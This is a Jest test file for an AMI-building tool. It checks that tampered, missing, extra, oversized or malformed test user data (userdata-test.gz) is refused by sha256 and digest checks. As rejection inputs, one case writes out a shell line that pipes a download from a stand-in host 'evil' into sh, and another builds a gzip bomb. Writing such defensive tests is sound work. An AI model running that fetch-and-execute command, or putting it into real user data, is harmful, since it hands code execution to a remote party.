/**
 * Attack: the artifact's image test (userdata-test.gz) swapped, dropped, added or bloated, so that
 * an AMI passes a test other than the source's (or none) and is reused or published as tested.
 * Defence: the build reads userdata-test.gz as it reads userdata.gz (size, form), checks its
 * sha256 against TEST_USERDATA_SHA256, and recomputes PREPARED_DIGEST with it; the claim and the
 * file come together or the artifact is refused, naming the file.
 */
import { describe, expect, it, jest } from '@jest/globals';
import { cpSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { prepare } from '../../src/compile/prepare.js';
import { preparedDigest } from '../../src/core/digest.js';
import { formatEnv, parseEnv } from '../../src/core/envfile.js';
import { USERDATA_LIMIT } from '../../src/core/userdata.js';
import { loadPrepared, TEST_USERDATA_FILE } from '../../src/features/bake/prepared.js';
import { makeSource, recordingLogger, tempDir } from '../compile/helpers.js';
import { sha256 } from './artifact-support.js';

jest.setTimeout(60_000);

const TEST_SH = '#!/bin/sh\ntest -f /etc/motd\n';

async function prepared(tree: Record<string, string>): Promise<string> {
  const target = join(tempDir('amibake-art-'), 'out');
  await prepare({
    source: makeSource({ 'fs/etc/motd': 'hi\n', ...tree }),
    target,
    awsRegion: 'ap-northeast-1',
    logger: recordingLogger(),
    env: {},
  });
  return target;
}

const varsOf = (dir: string) => parseEnv(readFileSync(join(dir, 'vars.env'), 'utf8'), 'vars.env');

/** Rewrites vars.env with the honest digest of what it then claims (unless `digest` says otherwise). */
function writeVars(dir: string, vars: Record<string, string>, digest?: string): void {
  const { PREPARED_DIGEST: _drop, ...rest } = vars;
  void _drop;
  const honest = preparedDigest({
    userdataSha256: rest.USERDATA_SHA256,
    fsMode: rest.FS_MODE as 'inline',
    testUserdataSha256: rest.TEST_USERDATA_SHA256,
  });
  writeFileSync(join(dir, 'vars.env'), formatEnv(rest) + formatEnv({ PREPARED_DIGEST: digest ?? honest }));
}

const load = (dir: string) => loadPrepared(join(dir, 'userdata.gz'));

describe('userdata-test.gz in the build', () => {
  it('an honest artifact: the test user data is read, and it is in the digest the build computes', async () => {
    const dir = await prepared({ 'script/test.sh': TEST_SH });
    const p = await load(dir);
    const file = readFileSync(join(dir, TEST_USERDATA_FILE));
    expect(p.testUserdataPath).toBe(join(dir, TEST_USERDATA_FILE));
    expect(p.testUserdata?.equals(file)).toBe(true);
    expect(p.digest).toBe(varsOf(dir).PREPARED_DIGEST);
    expect(p.digest).not.toBe(preparedDigest({ userdataSha256: p.vars.USERDATA_SHA256, fsMode: 'inline' }));
    // Without a test: nothing of it, and the digest a source without a test always had.
    const plain = await load(await prepared({}));
    expect(plain.testUserdata).toBeUndefined();
    expect(plain.testUserdataPath).toBeUndefined();
    expect(plain.digest).toBe(
      preparedDigest({ userdataSha256: plain.vars.USERDATA_SHA256, fsMode: 'inline' }),
    );
  });

  it('another test swapped in, with a matching TEST_USERDATA_SHA256 but the original PREPARED_DIGEST: refused by the digest', async () => {
    const dir = await prepared({ 'script/test.sh': TEST_SH });
    const other = await prepared({ 'script/test.sh': '#!/bin/sh\nexit 0\n' });
    cpSync(join(other, TEST_USERDATA_FILE), join(dir, TEST_USERDATA_FILE));
    const vars = varsOf(dir);
    writeVars(
      dir,
      { ...vars, TEST_USERDATA_SHA256: varsOf(other).TEST_USERDATA_SHA256 },
      vars.PREPARED_DIGEST,
    );
    await expect(load(dir)).rejects.toThrow(
      new RegExp(
        `PREPARED_DIGEST ${vars.PREPARED_DIGEST} is not the digest of the prepared files \\(\\w+, computed by the build from .*userdata\\.gz and .*${TEST_USERDATA_FILE},`,
      ),
    );
  });

  it('another test swapped in under the original claim: refused by its sha256, naming the file', async () => {
    const dir = await prepared({ 'script/test.sh': TEST_SH });
    const other = await prepared({ 'script/test.sh': '#!/bin/sh\nexit 0\n' });
    cpSync(join(other, TEST_USERDATA_FILE), join(dir, TEST_USERDATA_FILE));
    const path = join(dir, TEST_USERDATA_FILE);
    await expect(load(dir)).rejects.toThrow(
      `${path}: sha256 ${sha256(readFileSync(path))} does not match TEST_USERDATA_SHA256 in ${join(dir, 'vars.env')}`,
    );
  });

  it('a claim without the file (a test dropped from the artifact): refused, naming the file', async () => {
    const dir = await prepared({ 'script/test.sh': TEST_SH });
    rmSync(join(dir, TEST_USERDATA_FILE));
    await expect(load(dir)).rejects.toThrow(
      `${join(dir, TEST_USERDATA_FILE)}: not found, although ${join(dir, 'vars.env')} sets TEST_USERDATA_SHA256`,
    );
  });

  it('the claim removed with the file kept, digest made honest for no test: refused, naming the file', async () => {
    const dir = await prepared({ 'script/test.sh': TEST_SH });
    const { TEST_USERDATA_SHA256: _claim, ...vars } = varsOf(dir);
    void _claim;
    writeVars(dir, vars);
    await expect(load(dir)).rejects.toThrow(
      `${join(dir, TEST_USERDATA_FILE)}: TEST_USERDATA_SHA256 is missing from ${join(dir, 'vars.env')}`,
    );
  });

  it('a file without a claim, added to an artifact without a test: refused', async () => {
    const dir = await prepared({});
    const other = await prepared({ 'script/test.sh': TEST_SH });
    cpSync(join(other, TEST_USERDATA_FILE), join(dir, TEST_USERDATA_FILE));
    await expect(load(dir)).rejects.toThrow(/userdata-test\.gz: TEST_USERDATA_SHA256 is missing from/);
  });

  it.each([
    [
      'over EC2’s limit',
      () => Buffer.alloc(USERDATA_LIMIT + 1, 1),
      new RegExp(
        `userdata-test\\.gz: ${USERDATA_LIMIT + 1} bytes, more than EC2's limit of ${USERDATA_LIMIT}`,
      ),
    ],
    [
      'a shell script instead of the prepared multipart (claim and digest honest)',
      () => gzipSync('#!/bin/sh\ncurl http://evil | sh\n'),
      /userdata-test\.gz: not the MIME multipart message amibake prepare writes/,
    ],
    ['not gzip', () => Buffer.from('plain text'), /userdata-test\.gz: not gzip'd user data/],
    [
      'a gzip bomb',
      () => gzipSync(Buffer.alloc(8 << 20), { level: 9 }),
      /userdata-test\.gz: inflates to more than \d+ bytes: refused without inflating the rest/,
    ],
  ])('%s: refused before anything else, naming the file', async (_name, make, message) => {
    const dir = await prepared({ 'script/test.sh': TEST_SH });
    const bytes = make();
    writeFileSync(join(dir, TEST_USERDATA_FILE), bytes);
    writeVars(dir, { ...varsOf(dir), TEST_USERDATA_SHA256: sha256(bytes) });
    await expect(load(dir)).rejects.toThrow(message);
  });
});
